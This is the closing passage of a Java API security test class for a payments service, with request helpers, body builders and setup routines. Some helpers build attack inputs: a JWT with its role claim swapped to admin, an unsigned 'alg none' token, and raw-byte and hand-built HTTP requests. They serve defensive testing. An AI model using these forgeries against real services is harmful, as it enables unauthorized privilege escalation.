      return JSON.readTree(answer.body());
    } catch (java.io.IOException e) {
      throw new AssertionError("not JSON: " + answer.body(), e);
    }
  }

  private static Consumer<RawHttp.Answer> detailMentions(String words) {
    return answer -> assertThat(json(answer).get("detail").asText()).contains(words);
  }

  // Requests

  private RawHttp.Answer get(String path, Tenant caller) {
    return getWith(path, caller.accessToken());
  }

  private RawHttp.Answer getWith(String path, String token) {
    return bytesWith("GET", path, token, null, new byte[0]);
  }

  private RawHttp.Answer json(String method, String path, Tenant caller, String body) {
    return jsonWith(method, path, caller == null ? null : caller.accessToken(), body);
  }

  private RawHttp.Answer jsonWith(String method, String path, String token, String body) {
    return bytesWith(method, path, token, JSON_TYPE, utf8(body));
  }

  private RawHttp.Answer bytes(
      String method, String path, Tenant caller, String contentType, byte[] body) {
    return bytesWith(method, path, caller == null ? null : caller.accessToken(), contentType, body);
  }

  private RawHttp.Answer bytesWith(
      String method, String path, String token, String contentType, byte[] body) {
    Map<String, String> headers = new HashMap<>();
    if (contentType != null) {
      headers.put("content-type", contentType);
    }
    return answerOf(api.send(method, path, Optional.ofNullable(token), headers, body));
  }

  private RawHttp.Answer withHeader(
      String method, String path, Tenant caller, String name, String value, String body) {
    Map<String, String> headers = new HashMap<>(Map.of(name, value));
    if (!body.isEmpty()) {
      headers.put("content-type", JSON_TYPE);
    }
    return answerOf(api.send(method, path, Optional.of(caller.accessToken()), headers, utf8(body)));
  }

  /** {@code requestLine} is "METHOD /path"; {@code header} one raw header line, or empty. */
  private RawHttp.Answer raw(String requestLine, Tenant caller, String header, String body) {
    String head =
        requestLine
            + " HTTP/1.1\r\nauthorization: Bearer "
            + caller.accessToken()
            + (body.isEmpty() ? "" : "\r\ncontent-type: " + JSON_TYPE)
            + (header.isEmpty() ? "" : "\r\n" + header);
    return RawHttp.send(
        runtime.httpBaseUrl(), head.getBytes(StandardCharsets.ISO_8859_1), utf8(body));
  }

  private static RawHttp.Answer answerOf(ApiClient.Reply reply) {
    Map<String, String> headers = new HashMap<>();
    reply
        .response()
        .headers()
        .map()
        .forEach(
            (name, values) -> headers.put(name.toLowerCase(java.util.Locale.ROOT), values.get(0)));
    return new RawHttp.Answer(reply.status(), headers, reply.body());
  }

  // Bodies

  private static String bulk(Tenant debtor) {
    return debtor.bulkOf(1, new Random(), "partial").toString();
  }

  private static String openAccount(String iban, String balance) {
    return "{\"iban\":\""
        + iban
        + "\",\"bic\":\""
        + Tenant.BIC
        + "\",\"currency\":\"EUR\",\"initial_balance\":\""
        + balance
        + "\"}";
  }

  private static String newIban() {
    return org.iban4j.Iban.random(org.iban4j.CountryCode.FR).toString();
  }

  private static String registration(String organizationName) {
    return "{\"email\":\"abuse-"
        + UUID.randomUUID()
        + "@example.com\",\"password\":\"correct horse battery staple\",\"organization_name\":\""
        + organizationName
        + "\"}";
  }

  private static String extraction(String cpf, String moreMembers) {
    return "{\"name\":\"My App\",\"organization_name\":\"My Organization\",\"organization_id\":\"123\","
        + "\"user_document_number\":\""
        + cpf
        + "\""
        + moreMembers
        + "}";
  }

  private static String withMember(String object, String name, String value) {
    return object.substring(0, object.length() - 1) + ",\"" + name + "\":\"" + value + "\"}";
  }

  /** The JSON object followed by white space up to {@code size} bytes. */
  private static String padded(String object, int size) {
    return object + " ".repeat(size - utf8(object).length);
  }

  /** The text's UTF-8 with {@code marker} replaced by raw bytes. */
  private static byte[] spliced(String text, String marker, byte[] raw) {
    int at = text.indexOf(marker);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(utf8(text.substring(0, at)));
    out.writeBytes(raw);
    out.writeBytes(utf8(text.substring(at + marker.length())));
    return out.toByteArray();
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static String encoded(String segment) {
    return java.net.URLEncoder.encode(segment, StandardCharsets.UTF_8).replace("+", "%20");
  }

  // Setup

  private String memberOf(Tenant organization) {
    String email = "member-" + UUID.randomUUID() + "@example.com";
    String password = "member " + UUID.randomUUID();
    ApiClient.Reply added =
        api.post(
            "/organizations/me/members",
            Optional.of(organization.accessToken()),
            "{\"email\":\"" + email + "\",\"password\":\"" + password + "\",\"role\":\"member\"}");
    assertThat(added.status()).as(added.body()).isEqualTo(201);
    ApiClient.Reply login =
        api.post(
            "/auth/login",
            Optional.empty(),
            "{\"email\":\"" + email + "\",\"password\":\"" + password + "\"}");
    assertThat(login.status()).as(login.body()).isEqualTo(200);
    return login.json().get("access_token").asText();
  }

  /** The id of the one delivery listed at {@code path}, once it is delivered. */
  private String deliveredNotice(String path) {
    Instant deadline = Instant.now().plus(Duration.ofSeconds(60));
    JsonNode deliveries = api.get(path, Optional.of(owner.accessToken())).json().path("deliveries");
    while (!deliveries.path(0).path("status").asText().equals("delivered")
        && Instant.now().isBefore(deadline)) {
      Settlement.sleep(200);
      deliveries = api.get(path, Optional.of(owner.accessToken())).json().path("deliveries");
    }
    assertThat(deliveries.path(0).path("status").asText()).as(path).isEqualTo("delivered");
    return deliveries.get(0).get("delivery_id").asText();
  }

  private String tokenIssuedAt(Instant issuedAt, String audience) {
    JsonNode me = api.get("/users/me", Optional.of(owner.accessToken())).json();
    User user =
        new User(
            me.get("id").asText(),
            me.get("organization_id").asText(),
            new Email(me.get("email").asText()),
            Role.ADMIN,
            Instant.now());
    return new AccessTokens(
            new KmsTestSigner(
                TestClients.kms(runtime.awsEndpoint()), "alias/finflow-token-signing"),
            "finflow",
            audience,
            Clock.fixed(issuedAt, ZoneOffset.UTC))
        .issue(user);
  }

  private static String forgedAdmin(String token) {
    String[] parts = token.split("\\.");
    String claims = new String(Base64URL.from(parts[1]).decode(), StandardCharsets.UTF_8);
    return parts[0]
        + "."
        + Base64URL.encode(claims.replace("\"member\"", "\"admin\""))
        + "."
        + parts[2];
  }

  private static String unsigned(String token) {
    try {
      return new PlainJWT(SignedJWT.parse(token).getJWTClaimsSet()).serialize();
    } catch (ParseException e) {
      throw new IllegalStateException(e);
    }
  }
}
